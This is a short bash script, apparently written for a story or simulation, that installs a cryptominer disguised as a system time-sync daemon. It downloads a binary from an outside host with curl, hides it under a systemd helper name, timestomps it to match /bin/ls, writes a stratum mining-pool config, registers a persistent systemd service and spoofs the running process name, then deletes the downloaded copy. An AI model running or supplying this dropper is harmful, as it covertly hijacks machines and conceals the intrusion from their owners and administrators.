#!/bin/bash
# What the story system-daemon fetches: installs a simulated miner under the name of a system daemon.
curl -fsS -o /tmp/timesync http://203.0.113.10/agent
chmod 755 /tmp/timesync
cp /tmp/timesync /usr/lib/systemd/systemd-timesyncd-helper
touch -r /bin/ls /usr/lib/systemd/systemd-timesyncd-helper
echo "-o stratum+ssl://203.0.113.25:443 -s 12" >/etc/systemd/timesyncd-helper.conf
cat >/etc/systemd/system/systemd-timesyncd-helper.service <<'UNIT'
[Unit]
Description=Network Time Synchronization Helper
[Service]
ExecStart=/usr/lib/systemd/systemd-timesyncd-helper -c /etc/systemd/timesyncd-helper.conf
Restart=always
[Install]
WantedBy=multi-user.target
UNIT
systemctl daemon-reload
systemctl enable systemd-timesyncd-helper.service
(exec -a /lib/systemd/systemd-timesyncd /tmp/timesync -c /etc/systemd/timesyncd-helper.conf) >/dev/null 2>&1 &
sleep 0.5
rm -f /tmp/timesync
